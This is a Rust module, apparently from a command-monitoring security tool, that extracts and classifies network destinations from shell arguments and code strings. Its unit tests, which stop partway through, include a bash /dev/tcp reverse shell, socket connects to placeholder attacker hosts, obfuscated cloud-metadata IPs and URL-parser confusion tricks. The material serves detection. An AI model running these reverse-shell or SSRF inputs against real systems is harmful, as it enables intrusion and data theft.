//! Finding destinations inside one argument or code string.
//!
//! Three passes over the bytes, no regexes, no allocation unless something
//! is found: URLs (`scheme://`), bash `/dev/tcp` paths, then a word scan for
//! IP literals, `user@host`, `host:port` and quoted `"host", port` pairs in
//! code. The word scan is deliberately narrow about bare names: outside a
//! host position a dotted word is only a destination when a port or an scp
//! path is attached, because `os.path.join`, `file.tar.gz` and `np.array`
//! look exactly like host names.

use std::net::Ipv6Addr;

use crate::classify::{analyze_host, classify_v6, parse_ipv4_dotted4, HostInfo};
use crate::Destination;

/// Last labels that are file extensions far more often than TLDs, so
/// `main.rs:42` or `config.yaml:3` is a source location, not `host:port`.
const FILE_EXTS: &[&str] = &[
    "py", "pyi", "pyc", "rs", "go", "js", "mjs", "cjs", "jsx", "ts", "tsx", "c", "h", "cc", "cpp",
    "cxx", "hpp", "hh", "java", "kt", "kts", "scala", "rb", "php", "pl", "pm", "sh", "bash", "zsh",
    "fish", "ps1", "md", "rst", "txt", "log", "json", "jsonl", "yaml", "yml", "toml", "ini", "cfg",
    "conf", "lock", "xml", "html", "htm", "css", "scss", "sql", "csv", "tsv", "swift", "cs", "fs",
    "vue", "svelte", "lua", "jl", "ex", "exs", "erl", "hs", "ml", "dart", "zig", "nim", "proto",
    "gradle", "tf", "env", "ipynb", "patch", "diff", "out", "err", "tmp", "bak", "test", "spec",
];

/// Words before `@x:` that are package-manager or digest syntax, not a host:
/// `image@sha256:...`, `alias@npm:pkg`, `pkg@workspace:*`, `pkg@github:u/r`.
#[rustfmt::skip]
const NOT_SCP_HOSTS: &[&str] = &[
    "sha1", "sha224", "sha256", "sha384", "sha512", "md5", "blake2b", "npm", "jsr", "file", "link", "portal",
    "patch", "workspace", "git", "github", "gitlab", "bitbucket", "exec", "catalog",
];

/// socat address types (`TCP:host:port`, `EXEC:/bin/sh`, `STDIO`): in a
/// host position these are keywords, and the host, if any, comes after.
#[rustfmt::skip]
const SOCAT_TYPES: &[&str] = &[
    "tcp", "tcp4", "tcp6", "tcp-connect", "tcp-listen", "tcp4-listen", "tcp6-listen", "udp", "udp4", "udp6",
    "udp-connect", "udp-listen", "udp-sendto", "udp-recvfrom", "sctp", "sctp-connect", "sctp-listen", "openssl",
    "openssl-connect", "openssl-listen", "dtls", "socks", "socks4", "socks4a", "socks5", "proxy", "proxy-connect",
    "ip", "ip4", "ip6", "ip-sendto", "unix", "unix-connect", "unix-listen", "exec", "system", "shell", "stdio",
    "stdin", "stdout", "stderr", "open", "gopen", "create", "pipe", "pty", "fd", "readline", "file", "tun",
];

/// Destinations inside one argument string.
///
/// URLs (`scheme://[user[:pw]@]host[:port]...`), `user@host:path` (scp/git),
/// `user@IP`, `host:port` (dotted name with a TLD, IP, or `localhost`),
/// `/dev/tcp/HOST/PORT` and `/dev/udp/...`, dotted-quad and bracketed or
/// bare IPv6 literals anywhere in text, and `("host", port)` / `(port,
/// "host")` pairs in code. With `positional_host` the whole argument is
/// first tried as `[user@]host[:port]` (`nc HOST PORT`, `ssh HOST`), which
/// accepts bare names (`myserver`) and every `inet_aton` IPv4 form.
///
/// Destinations are returned in the order they appear.
pub fn extract(arg: &str, positional_host: bool) -> Vec<Destination> {
    if positional_host {
        if let Some(d) = positional(arg) {
            return vec![d];
        }
    }
    // Fast path: every form reported outside a host position needs one of these.
    if !arg.bytes().any(|b| matches!(b, b'.' | b':' | b'@' | b'/')) {
        return Vec::new();
    }
    let mut found: Vec<(usize, Destination)> = Vec::new();
    let mut taken: Vec<(usize, usize)> = Vec::new();
    scan_urls(arg, &mut found, &mut taken);
    scan_dev_tcp(arg, &mut found, &mut taken);
    scan_words(arg, &taken, &mut found);
    found.sort_by_key(|(start, _)| *start);
    found.into_iter().map(|(_, d)| d).collect()
}

/// Start offsets of `needle` in `hay`: SIMD search for its first byte, then
/// a compare. `memmem` would build a searcher per call, which costs more than
/// the whole scan of a typical short argument; this has no set-up.
fn find_all<'a>(hay: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    memchr::memchr_iter(needle[0], hay).filter(move |&i| hay[i..].starts_with(needle))
}

fn dest(info: HostInfo, port: Option<u16>, scheme: Option<String>, text: &str) -> Destination {
    Destination {
        host: info.host,
        port,
        scheme,
        ip: info.ip,
        class: info.class,
        text: text.to_string(),
        obfuscated_ip: info.obfuscated,
    }
}

/// Bytes of a host-ish word (a table: this runs on every byte of every argument).
fn is_word(b: u8) -> bool {
    const WORD: [bool; 256] = {
        let mut t = [false; 256];
        let mut i = 0;
        while i < 256 {
            let c = i as u8;
            t[i] = c.is_ascii_alphanumeric() || c == b'.' || c == b'-' || c == b'_';
            i += 1;
        }
        t
    };
    WORD[b as usize]
}

/// Bytes that end a URL in running text.
fn is_url_end(b: u8) -> bool {
    b.is_ascii_whitespace()
        || matches!(
            b,
            b'"' | b'\'' | b'`' | b'<' | b'>' | b'|' | b'(' | b')' | b';' | b',' | 0
        )
}

fn word_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && is_word(b[i]) {
        i += 1;
    }
    i
}

fn digits_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && b[i].is_ascii_digit() {
        i += 1;
    }
    i
}

/// A port: 1-5 digits, at most 65535.
fn parse_port(s: &str) -> Option<u16> {
    if s.is_empty() || s.len() > 5 || !s.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    s.parse().ok()
}

/// What may follow a `host:port` for the port to be one: not more of a
/// word (`file.py:10:5`, `12:30.5`).
fn port_boundary(b: Option<&u8>) -> bool {
    !matches!(b, Some(c) if c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'_'))
}

// ---------------------------------------------------------------- positional

/// The whole argument as `[user@]host[:port|:path]` or `host/path`.
fn positional(arg: &str) -> Option<Destination> {
    let s = arg.trim();
    if s.is_empty() || s.starts_with('-') || find_all(s.as_bytes(), b"://").next().is_some() {
        return None;
    }
    let rest = match s.find('@') {
        Some(at) if at > 0 && !s[..at].contains('/') && !s[..at].contains(':') => &s[at + 1..],
        Some(_) => return None,
        None => s,
    };
    let (host, after) = if rest.starts_with('[') {
        let close = rest.find(']')?;
        (&rest[..=close], &rest[close + 1..])
    } else if rest.bytes().filter(|&b| b == b':').count() >= 2
        && rest.split('%').next()?.parse::<Ipv6Addr>().is_ok()
    {
        (rest, "")
    } else {
        let cut = rest.find([':', '/']).unwrap_or(rest.len());
        (&rest[..cut], &rest[cut..])
    };
    if host.is_empty() || host.starts_with('.') || host.starts_with('-') {
        return None;
    }
    if (after.is_empty() || after.starts_with(':'))
        && SOCAT_TYPES.iter().any(|t| t.eq_ignore_ascii_case(host))
    {
        return None; // `TCP:10.0.0.1:4444`: the word scan finds the host
    }
    // nmap-style range `192.168.1.1-254`: the first address stands for it.
    let host = match host.split_once('-') {
        Some((first, _)) if parse_ipv4_dotted4(first).is_some() => first,
        _ => host,
    };
    let info = analyze_host(host)?;
    // `dir/file` is a relative path, `example.com/x` is what curl calls a URL.
    if after.starts_with('/')
        && info.ip.is_none()
        && !info.host.contains('.')
        && !info.host.ends_with("localhost")
    {
        return None;
    }
    let port = after.strip_prefix(':').and_then(parse_port);
    Some(dest(info, port, None, s))
}

// ---------------------------------------------------------------- URLs

fn scan_urls(arg: &str, found: &mut Vec<(usize, Destination)>, taken: &mut Vec<(usize, usize)>) {
    let b = arg.as_bytes();
    for pos in find_all(b, b"://") {
        if taken.last().is_some_and(|&(_, e)| pos < e) {
            continue; // a URL inside another's path or query is not where the connection goes
        }
        let mut start = pos;
        while start > 0
            && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'+' | b'.' | b'-'))
        {
            start -= 1;
        }
        while start < pos && !b[start].is_ascii_alphabetic() {
            start += 1;
        }
        if start == pos {
            continue;
        }
        let auth_start = pos + 3;
        let mut auth_end = auth_start;
        // `\` ends the authority as in WHATWG parsers: `http://evil.com\@good.com` goes to evil.com.
        while auth_end < b.len()
            && !is_url_end(b[auth_end])
            && !matches!(b[auth_end], b'/' | b'?' | b'#' | b'\\')
        {
            auth_end += 1;
        }
        let mut end = auth_end;
        while end < b.len() && !is_url_end(b[end]) {
            end += 1;
        }
        taken.push((start, end));
        let scheme = arg[start..pos].to_ascii_lowercase();
        if scheme == "file" {
            continue;
        }
        let authority = &arg[auth_start..auth_end];
        // The host follows the last `@`: `http://good.com@evil.com/` goes to evil.com.
        let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        let (host, port) = split_host_port(hostport);
        if let Some(info) = analyze_host(host) {
            found.push((start, dest(info, port, Some(scheme), &arg[start..end])));
        }
    }
}

/// `host:port`, `[v6]:port`; a non-numeric port (`$PORT`) is dropped, not fatal.
fn split_host_port(hp: &str) -> (&str, Option<u16>) {
    if hp.starts_with('[') {
        if let Some(close) = hp.find(']') {
            let port = hp[close + 1..].strip_prefix(':').and_then(parse_port);
            return (&hp[..=close], port);
        }
        return (hp, None);
    }
    match hp.split_once(':') {
        Some((h, p)) => (h, parse_port(p)),
        None => (hp, None),
    }
}

// ---------------------------------------------------------------- /dev/tcp

fn scan_dev_tcp(arg: &str, found: &mut Vec<(usize, Destination)>, taken: &mut Vec<(usize, usize)>) {
    let b = arg.as_bytes();
    let urls = taken.len(); // URL ranges: sorted, disjoint
    for pat in ["/dev/tcp/", "/dev/udp/"] {
        for pos in find_all(b, pat.as_bytes()) {
            if covered(&taken[..urls], pos).is_some() {
                continue;
            }
            let hs = pos + pat.len();
            let mut he = hs;
            while he < b.len() && b[he] != b'/' && !is_url_end(b[he]) {
                he += 1;
            }
            let (port, end) = if b.get(he) == Some(&b'/') {
                let pe = digits_end(b, he + 1);
                (parse_port(&arg[he + 1..pe]), pe)
            } else {
                (None, he)
            };
            if let Some(info) = analyze_host(&arg[hs..he]) {
                taken.push((pos, end));
                found.push((pos, dest(info, port, None, &arg[pos..end])));
            }
        }
    }
    taken.sort_unstable();
}

/// The end of the range in `taken` (sorted, disjoint) that covers `pos`.
fn covered(taken: &[(usize, usize)], pos: usize) -> Option<usize> {
    let k = taken.partition_point(|&(s, _)| s <= pos);
    let &(_, e) = taken.get(k.checked_sub(1)?)?;
    (pos < e).then_some(e)
}

// ---------------------------------------------------------------- words

fn scan_words(arg: &str, taken: &[(usize, usize)], found: &mut Vec<(usize, Destination)>) {
    scan_words_with(arg, taken, found, true)
}

/// `skip_runs: false` steps one byte at a time: the plain form of the scan,
/// which a test holds the fast one to.
fn scan_words_with(
    arg: &str,
    taken: &[(usize, usize)],
    found: &mut Vec<(usize, Destination)>,
    skip_runs: bool,
) {
    let b = arg.as_bytes();
    let n = b.len();
    let mut i = 0;
    while i < n {
        if let Some(e) = covered(taken, i) {
            i = e;
            continue;
        }
        let c = b[i];
        if c == b'[' {
            if let Some((end, d)) = bracketed_v6(arg, i) {
                found.push((i, d));
                i = end;
            } else {
                i += 1;
            }
            continue;
        }
        if (c == b':' || c.is_ascii_hexdigit())
            && !(i > 0 && (is_word(b[i - 1]) || b[i - 1] == b':'))
        {
            if let Some((end, d)) = bare_v6(arg, i) {
                found.push((i, d));
                i = end;
                continue;
            }
        }
        if !is_word(c) {
            // Past the run of bytes that start nothing (code is mostly
            // these and words): only a word byte, `[` or `:` can. Landing
            // inside a taken span is caught at the top, as stepping would.
            i += 1;
            while skip_runs && i < n && !is_word(b[i]) && !matches!(b[i], b'[' | b':') {
                i += 1;
            }
            continue;
        }
        let e = word_end(b, i);
        i = if b.get(e) == Some(&b'@') {
            user_at_host(arg, i, e, found)
        } else {
            host_word(arg, i, e, found)
        };
    }
}

/// Free-text IPv6 must look deliberate: `::1`, an embedded dotted quad, or
/// a 4-hex-digit group. Slices (`a[1::2]`), `std::io`, times and MACs fail.
fn plausible_v6(s: &str) -> bool {
    s == "::1"
        || (s.bytes().filter(|&c| c == b':').count() >= 2
            && s.bytes().any(|c| c.is_ascii_digit())
            && (s.contains('.') || s.split(':').any(|g| g.len() == 4)))
}

fn v6_dest(text: &str, addr: &str, port: Option<u16>) -> Option<Destination> {
    let v6: Ipv6Addr = addr.parse().ok()?;
    let (class, obfuscated) = classify_v6(&v6);
    let info = HostInfo {
        host: v6.to_string(),
        class,
        ip: Some(v6.into()),
        obfuscated,
    };
    Some(dest(info, port, None, text))
}

/// `[v6]` or `[v6]:port`. `[host]` and other bracketed text is not a destination.
fn bracketed_v6(arg: &str, i: usize) -> Option<(usize, Destination)> {
    let b = arg.as_bytes();
    let close = i + 1 + b[i + 1..].iter().take(66).position(|&c| c == b']')?;
    let inner = &arg[i + 1..close];
    let addr = inner.split('%').next()?;
    if addr != "::" && !plausible_v6(addr) {
        return None;
    }
    let mut end = close + 1;
    let mut port = None;
    if b.get(end) == Some(&b':') {
        let pe = digits_end(b, end + 1);
        if let Some(p) = parse_port(&arg[end + 1..pe]) {
            port = Some(p);
            end = pe;
        }
    }
    Some((end, v6_dest(&arg[i..end], addr, port)?))
}

/// A bare IPv6 literal starting at `i` (optionally with a `%zone`).
fn bare_v6(arg: &str, i: usize) -> Option<(usize, Destination)> {
    let b = arg.as_bytes();
    let mut e = i;
    let mut colons = 0;
    while e < b.len() && (b[e].is_ascii_hexdigit() || b[e] == b':' || b[e] == b'.') {
        colons += usize::from(b[e] == b':');
        e += 1;
        if e - i > 64 {
            return None; // bounds the rescans of long `a:b:c:...` runs
        }
    }
    if colons < 2 {
        return None; // every IPv6 form has two (`::1`, `a:b:c:d:e:f:g:h`); most runs are words (`def`, `0x1f`)
    }
    let mut addr_end = e;
    while addr_end > i && b[addr_end - 1] == b'.' {
        addr_end -= 1; // sentence full stop
    }
    let addr = &arg[i..addr_end];
    if !plausible_v6(addr) {
        return None;
    }
    let mut end = addr_end;
    if b.get(e) == Some(&b'/') && b.get(e + 1).is_some_and(u8::is_ascii_digit) {
        return None; // `fd00::/8`: a network
    }
    if e == addr_end && b.get(e) == Some(&b'%') {
        end = word_end(b, e + 1);
    } else if e == addr_end
        && b.get(e)
            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_')
    {
        return None; // `f32::EPSILON`
    }
    Some((end, v6_dest(&arg[i..end], addr, None)?))
}

fn is_localhost(w: &str) -> bool {
    w.eq_ignore_ascii_case("localhost")
        || (w.len() > 10
            && w.as_bytes()[w.len() - 10] == b'.'
            && w[w.len() - 9..].eq_ignore_ascii_case("localhost"))
}

/// A dotted name with an alphabetic TLD that is not a file extension.
fn is_dotted_name(w: &str) -> bool {
    if !w.contains('.') || w.starts_with(['-', '_', '.']) {
        return false;
    }
    let mut labels = w.split('.');
    let tld = labels.next_back().unwrap_or("");
    let tld_ok = (tld.len() >= 2 && tld.bytes().all(|c| c.is_ascii_alphabetic()))
        || tld.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("xn--"));
    tld_ok
        && !FILE_EXTS.iter().any(|x| x.eq_ignore_ascii_case(tld))
        && w.split('.').all(|l| !l.is_empty() && !l.starts_with('-'))
}

/// `"host", 4242` after the word or `4242, "host"` before it, as in
/// `fsockopen("attacker.com",12345)` or `net.connect(4444, "10.0.0.1")`.
/// Returns the port and the span it covers with the word.
fn quoted_port(arg: &str, s: usize, e: usize) -> Option<(u16, usize, usize)> {
    let b = arg.as_bytes();
    let q = *b.get(s.checked_sub(1)?)?;
    if !matches!(q, b'"' | b'\'') || b.get(e) != Some(&q) {
        return None;
    }
    let skip_ws = |mut j: usize| {
        while j < b.len() && b[j] == b' ' {
            j += 1;
        }
        j
    };
    let j = skip_ws(e + 1);
    if b.get(j) == Some(&b',') {
        let ds = skip_ws(j + 1);
        let de = digits_end(b, ds);
        if let Some(p) = parse_port(&arg[ds..de]).filter(|_| port_boundary(b.get(de))) {
            return Some((p, s - 1, de));
        }
    }
    // Backwards: `4444, "host"`.
    let mut j = s - 1;
    while j > 0 && b[j - 1] == b' ' {
        j -= 1;
    }
    if j == 0 || b[j - 1] != b',' {
        return None;
    }
    j -= 1;
    while j > 0 && b[j - 1] == b' ' {
        j -= 1;
    }
    let de = j;
    while j > 0 && b[j - 1].is_ascii_digit() {
        j -= 1;
    }
    if j > 0 && is_word(b[j - 1]) {
        return None;
    }
    parse_port(&arg[j..de]).map(|p| (p, j, e + 1))
}

/// Version constraints (`==1.2.3.4`, `~1.2.3.4`, `^1.2.3.4`) are not addresses.
fn version_context(b: &[u8], s: usize) -> bool {
    let p1 = s.checked_sub(1).map(|i| b[i]);
    let p2 = s.checked_sub(2).map(|i| b[i]);
    matches!(p1, Some(b'~' | b'^'))
        || (p1 == Some(b'=') && matches!(p2, Some(b'=' | b'<' | b'>' | b'~' | b'!')))
}

/// A word in `b[s..e]` that is not followed by `@`. Returns where to resume.
fn host_word(arg: &str, s: usize, e: usize, found: &mut Vec<(usize, Destination)>) -> usize {
    let b = arg.as_bytes();
    // Every form below needs a dot (an IPv4 address, a dotted name) or is
    // `localhost`: most words of code and prose are neither.
    if !b[s..e].contains(&b'.') && !is_localhost(&arg[s..e]) {
        return e;
    }
    let prev = s.checked_sub(1).map(|i| b[i]);
    if matches!(prev, Some(b'$' | b'{' | b'%')) {
        return e; // `$HOST.example.com`, `{host}`, `%s`: templates
    }
    let mut we = e;
    while we > s && b[we - 1] == b'.' {
        we -= 1;
    }
    let w = &arg[s..we];

    // What is attached: `:port`, a bare `:` or `:/path` / `:~` (scp), or a
    // quoted `"host", port` pair in code. Cheap byte checks come first so
    // that the usual unattached word costs one IPv4 test.
    let mut port = None;
    let mut span = (s, we);
    let mut attached = false; // port or scp path: enough for a dotted name
    let mut colon = false; // any `:` suffix: enough for an IP or localhost
    if we == e && b.get(e) == Some(&b':') && !arg[e + 1..].starts_with("//") {
        colon = true;
        let de = digits_end(b, e + 1);
        if de > e + 1 {
            if let Some(p) = parse_port(&arg[e + 1..de]).filter(|_| port_boundary(b.get(de))) {
                port = Some(p);
                span.1 = de;
                attached = true;
            }
        } else {
            attached = matches!(b.get(e + 1), Some(b'/' | b'~'));
        }
    } else if let Some((p, qs, qe)) = quoted_port(arg, s, we) {
        port = Some(p);
        span = (qs, qe);
        attached = true;
        colon = true;
    }

    if parse_ipv4_dotted4(w).is_some() {
        // `Chrome/120.0.0.0` in a user agent, `v/1.2.3.4` in a path: not hosts
        // (`//10.0.0.1/x`, protocol-relative, still is).
        let in_path = prev == Some(b'/') && s.checked_sub(2).map(|i| b[i]) != Some(b'/');
        if in_path || version_context(b, s) {
            return e;
        }
        // `10.0.0.0/8` is a network, not somewhere to connect to.
        if b.get(we) == Some(&b'/') {
            let de = digits_end(b, we + 1);
            if de > we + 1 && de - we <= 4 && port_boundary(b.get(de)) {
                return de;
            }
        }
    } else {
        let name_ok = attached && !matches!(prev, Some(b'/' | b'\\')) && is_dotted_name(w);
        if !(colon && (name_ok || is_localhost(w))) {
            return e;
        }
    }
    if let Some(info) = analyze_host(w) {
        found.push((span.0, dest(info, port, None, &arg[span.0..span.1])));
    }
    span.1.max(e)
}

/// `user@host...` with the user in `b[s..e]` and `@` at `e`.
fn user_at_host(arg: &str, s: usize, e: usize, found: &mut Vec<(usize, Destination)>) -> usize {
    let b = arg.as_bytes();
    let hs = e + 1;
    let (host, he) = if b.get(hs) == Some(&b'[') {
        match b[hs..].iter().take(66).position(|&c| c == b']') {
            Some(off) => (&arg[hs..=hs + off], hs + off + 1),
            None => return hs,
        }
    } else {
        let mut he = word_end(b, hs);
        while he > hs && b[he - 1] == b'.' {
            he -= 1;
        }
        (&arg[hs..he], he)
    };
    if host.is_empty() || host.starts_with(['-', '.', '_']) {
        return hs;
    }
    let mut end = he;
    let mut port = None;
    let keep = if b.get(he) == Some(&b':') && !arg[he + 1..].starts_with("//") {
        // scp / git form: `git@github.com:org/repo`, `root@10.0.0.1:/tmp`.
        let de = digits_end(b, he + 1);
        if de > he + 1 && port_boundary(b.get(de)) {
            port = parse_port(&arg[he + 1..de]);
            if port.is_some() {
                end = de;
            }
        }
        !NOT_SCP_HOSTS.iter().any(|x| x.eq_ignore_ascii_case(host))
    } else {
        // No colon: `a@b.com` is an email; only addresses and localhost count.
        host.starts_with('[') || parse_ipv4_dotted4(host).is_some() || is_localhost(host)
    };
    if keep {
        if let Some(info) = analyze_host(host) {
            found.push((s, dest(info, port, None, &arg[s..end])));
        }
    }
    end
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DestClass::{self, *};
    use std::net::{IpAddr, Ipv4Addr};

    /// The run-skipping scan finds what stepping byte by byte finds, on
    /// texts made of the pieces destinations are built from and broken by.
    #[test]
    fn skipping_runs_finds_what_stepping_finds() {
        const PIECES: &[&str] = &[
            "10.0.0.1",
            "169.254.169.254",
            ":",
            "::1",
            "[",
            "]",
            "fd00:ec2::254",
            ":8080",
            "http://x.com:80/a",
            "/dev/tcp/1.2.3.4/80",
            " ",
            "\n",
            "\"",
            "'",
            "@",
            "user@",
            "localhost",
            ".",
            ",",
            "a",
            "def",
            "%",
            "$",
            "{",
            "}",
            "0xa9fea9fe",
            "(",
            ")",
            "=",
            "example.org",
            "/",
            "-",
            "ab:cd:ef::1",
            "\u{e9}",
            ";",
            "::ffff:1.2.3.4",
            "x.y",
        ];
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let mut found_some = 0;
        for _ in 0..20_000 {
            let len = 1 + next() % 12;
            let text: String = (0..len)
                .map(|_| PIECES[(next() % PIECES.len() as u64) as usize])
                .collect();
            let mut taken_found = Vec::new();
            let mut taken = Vec::new();
            scan_urls(&text, &mut taken_found, &mut taken);
            scan_dev_tcp(&text, &mut taken_found, &mut taken);
            let (mut fast, mut plain) = (Vec::new(), Vec::new());
            scan_words_with(&text, &taken, &mut fast, true);
            scan_words_with(&text, &taken, &mut plain, false);
            assert_eq!(fast, plain, "{text:?}");
            found_some += usize::from(!fast.is_empty());
        }
        // The pieces make destinations often enough to compare something.
        assert!(found_some > 5_000, "{found_some}");
    }

    fn hosts(arg: &str) -> Vec<String> {
        extract(arg, false).into_iter().map(|d| d.host).collect()
    }

    fn one(arg: &str, positional: bool) -> Destination {
        let mut v = extract(arg, positional);
        assert_eq!(v.len(), 1, "{arg:?} -> {v:#?}");
        v.remove(0)
    }

    fn check(arg: &str, host: &str, port: Option<u16>, class: DestClass) -> Destination {
        let d = one(arg, false);
        assert_eq!(
            (d.host.as_str(), d.port, d.class),
            (host, port, class),
            "{arg:?}"
        );
        d
    }

    fn none(arg: &str) {
        let v = extract(arg, false);
        assert!(v.is_empty(), "{arg:?} -> {v:#?}");
    }

    #[test]
    fn urls() {
        let d = check(
            "http://169.254.169.254/latest/meta-data/",
            "169.254.169.254",
            None,
            Metadata,
        );
        assert_eq!(d.scheme.as_deref(), Some("http"));
        assert_eq!(d.text, "http://169.254.169.254/latest/meta-data/");
        assert!(!d.obfuscated_ip);
        let d = check(
            "https://user:pw@Example.COM:8443/x?y=1#z",
            "example.com",
            Some(8443),
            Public,
        );
        assert_eq!(d.scheme.as_deref(), Some("https"));
        let d = check(
            "stratum+tcp://pool.minexmr.com:4444",
            "pool.minexmr.com",
            Some(4444),
            Public,
        );
        assert_eq!(d.scheme.as_deref(), Some("stratum+tcp"));
        check(
            "ssh://git@host.internal:2222/repo.git",
            "host.internal",
            Some(2222),
            Private,
        );
        check("http://[::1]:8080/", "::1", Some(8080), Loopback);
        check(
            "http://[fd00:ec2::254]/latest",
            "fd00:ec2::254",
            None,
            Metadata,
        );
        check(
            "http://[::ffff:169.254.169.254]/",
            "::ffff:169.254.169.254",
            None,
            Metadata,
        );
        check("http://localhost:3000", "localhost", Some(3000), Loopback);
        check(
            "http://metadata.google.internal/computeMetadata/v1/",
            "metadata.google.internal",
            None,
            Metadata,
        );
        check("HTTP://LOCALHOST./", "localhost", None, Loopback);
        check("url=http://10.0.0.5/x", "10.0.0.5", None, Private);
        check(
            "jdbc:mysql://db.internal:3306/app",
            "db.internal",
            Some(3306),
            Private,
        );
        check("http://localhost:$PORT/", "localhost", None, Loopback);
    }

    #[test]
    fn url_tricks() {
        // Userinfo and backslash confusion: the host is what a WHATWG parser connects to.
        check("http://allowed.com@evil.com/", "evil.com", None, Public);
        check("http://evil.com\\@allowed.com/", "evil.com", None, Public);
        check("http://evil.com#@allowed.com/", "evil.com", None, Public);
        check("http://evil.com?@allowed.com/", "evil.com", None, Public);
        // Obfuscated hosts.
        for url in [
            "http://2852039166/latest/meta-data/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://169.254.43518/",
            "http://%31%36%39.254.169.254/",
            "http://１６９。２５４。１６９。２５４/",
        ] {
            let d = check(url, "169.254.169.254", None, Metadata);
            assert!(d.obfuscated_ip, "{url}");
            assert_eq!(d.ip, Some(IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))));
        }
        let d = check("http://127.1:8000/", "127.0.0.1", Some(8000), Loopback);
        assert!(d.obfuscated_ip);
        check("http://0/", "0.0.0.0", None, Unspecified);
        check(
            "http://169.254.169.254.nip.io/",
            "169.254.169.254.nip.io",
            None,
            Metadata,
        );
        // A URL nested in another's query is not a second connection.
        check(
            "https://example.com/redirect?to=http://10.0.0.1/",
            "example.com",
            None,
            Public,
        );
    }

    #[test]
    fn url_placeholders_and_non_network() {
        none("http://[host]/path");
        none("http://<host>:<port>/");
        none("http://$HOST/");
        none("http://${HOST}:8080/");
        none("https://{{ host }}/");
        none("file:///etc/passwd");
        none("http:///nohost");
        none("://nothing");
    }

    #[test]
    fn several_in_one_arg_in_order() {
        let v = extract(
            "curl http://a.example.com/x && wget https://10.1.1.1:8443/y; nc 0.0.0.0:4444",
            false,
        );
        let got: Vec<_> = v.iter().map(|d| (d.host.as_str(), d.port)).collect();
        assert_eq!(
            got,
            [
                ("a.example.com", None),
                ("10.1.1.1", Some(8443)),
                ("0.0.0.0", Some(4444))
            ]
        );
    }

    #[test]
    fn dev_tcp() {
        let d = check(
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "10.0.0.1",
            Some(4242),
            Private,
        );
        assert_eq!(d.text, "/dev/tcp/10.0.0.1/4242");
        assert_eq!(d.scheme, None);
        check(
            "exec 3<>/dev/udp/attacker.com/53",
            "attacker.com",
            Some(53),
            Public,
        );
        let d = check("/dev/tcp/2130706433/80", "127.0.0.1", Some(80), Loopback);
        assert!(d.obfuscated_ip);
        none("/dev/tcp/$HOST/$PORT");
        none("ls /dev/null /dev/tty");
    }

    #[test]
    fn user_at_host() {
        check("git@github.com:org/repo.git", "github.com", None, Public);
        check("root@10.0.0.1:/tmp/x", "10.0.0.1", None, Private);
        check("deploy@myserver:/srv/app", "myserver", None, Public);
        check("root@192.168.1.10", "192.168.1.10", None, Private);
        check("postgres@localhost", "localhost", None, Loopback);
        check("admin@[fe80::1]", "fe80::1", None, LinkLocal);
        check(
            "user:secret@proxy.example.com:3128",
            "proxy.example.com",
            Some(3128),
            Public,
        );
        // Not destinations: emails, package versions, digests, yarn/npm protocols, git reflog.
        none("someone@example.com");
        none("--author=A <a@b.com>");
        none("requests@2.31.0");
        none("@types/node@18.0.0");
        none("nginx@sha256:0123abcd");
        none("alias@npm:react@18");
        none("pkg@workspace:packages/pkg");
        none("HEAD@{1}");
        none("@app.route('/x')");
    }

    #[test]
    fn host_port() {
        check(
            "pool.example.com:3333",
            "pool.example.com",
            Some(3333),
            Public,
        );
        check(
            "-o pool.example.com:3333",
            "pool.example.com",
            Some(3333),
            Public,
        );
        check(
            "--proxy=evil.example.net:8080",
            "evil.example.net",
            Some(8080),
            Public,
        );
        check("10.0.0.1:22", "10.0.0.1", Some(22), Private);
        check("0.0.0.0:8000", "0.0.0.0", Some(8000), Unspecified);
        check("localhost:8080", "localhost", Some(8080), Loopback);
        check("localhost:", "localhost", None, Loopback);
        check("api.localhost:5000", "api.localhost", Some(5000), Loopback);
        check(
            "backup.example.com:/srv/data",
            "backup.example.com",
            None,
            Public,
        );
        none("example.com:99999");
        none("HOST:PORT");
        none("example.com:PORT");
        none("$HOST:8080");
        none("<host>:8080");
    }

    #[test]
    fn code_strings() {
        check(
            r#"s.connect(("10.0.0.1",4242))"#,
            "10.0.0.1",
            Some(4242),
            Private,
        );
        check(
            r#"$sock=fsockopen("attacker.com",12345);"#,
            "attacker.com",
            Some(12345),
            Public,
        );
        check(
            "socket.create_connection(('evil.example.org', 443))",
            "evil.example.org",
            Some(443),
            Public,
        );
        check(
            r#"net.connect(4444, "attacker.io", () => {})"#,
            "attacker.io",
            Some(4444),
            Public,
        );
        check(
            r#"TCPSocket.new("localhost",1337)"#,
            "localhost",
            Some(1337),
            Loopback,
        );
        check(
            r#"new Socket("192.168.0.9", 9001)"#,
            "192.168.0.9",
            Some(9001),
            Private,
        );
        let d = one(r#"s.connect(("attacker.com",4242))"#, false);
        assert_eq!(d.text, r#""attacker.com",4242"#);
        none(r#"open("data.json", 5)"#);
        none(r#"requests.get(url, timeout=5)"#);
        none(r#"print("hello.world")"#);
    }

    #[test]
    fn bare_ip_literals() {
        check("ping 8.8.8.8", "8.8.8.8", None, Public);
        check("connect to 10.0.0.1.", "10.0.0.1", None, Private);
        check("--bind=0.0.0.0", "0.0.0.0", None, Unspecified);
        check("[10.0.0.1]", "10.0.0.1", None, Private);
        let d = check("0177.0.0.1", "127.0.0.1", None, Loopback);
        assert!(d.obfuscated_ip);
        let d = check("x=0x7f.0.0.1", "127.0.0.1", None, Loopback);
        assert!(d.obfuscated_ip);
        check("ping6 ::1", "::1", None, Loopback);
        check("fe80::1%eth0", "fe80::1", None, LinkLocal);
        check("addr 2001:db8::1 up", "2001:db8::1", None, Public);
        check("::ffff:127.0.0.1", "::ffff:127.0.0.1", None, Loopback);
        check("[::]:8080", "::", Some(8080), Unspecified);
